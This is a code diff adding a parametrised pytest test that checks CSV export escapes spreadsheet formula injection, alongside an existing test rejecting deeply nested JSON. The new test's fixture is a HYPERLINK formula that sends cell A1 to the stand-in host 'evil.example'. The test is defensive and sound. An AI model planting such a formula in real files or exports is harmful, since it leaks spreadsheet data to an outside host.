@@ -121,3 +121,18 @@ def test_deeply_nested_json_is_one_rejected_line() -> None:
     nested_frames = "[" * 100_000 + "]" * 100_000
     with pytest.raises(SignalRejected):
         make_signal("vpdq", nested_frames)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r="])
+def test_csv_cells_never_start_a_spreadsheet_formula(start: str) -> None:
+    """OWASP CSV injection: a list name or category typed by someone must not run in Excel."""
+    import csv
+    import io
+
+    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
+    item = ExportItem(1, payload, (payload,), ({"type": "md5", "value": "a" * 32},))
+    rows = list(csv.reader(io.StringIO("".join(export_lines([item], "csv")))))
+    for cell in rows[1]:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    assert rows[1][1] == "a" * 32  # hashes stay exact for the platforms that parse them
+    assert rows[1][2] == "'" + payload  # the text is kept, made inert
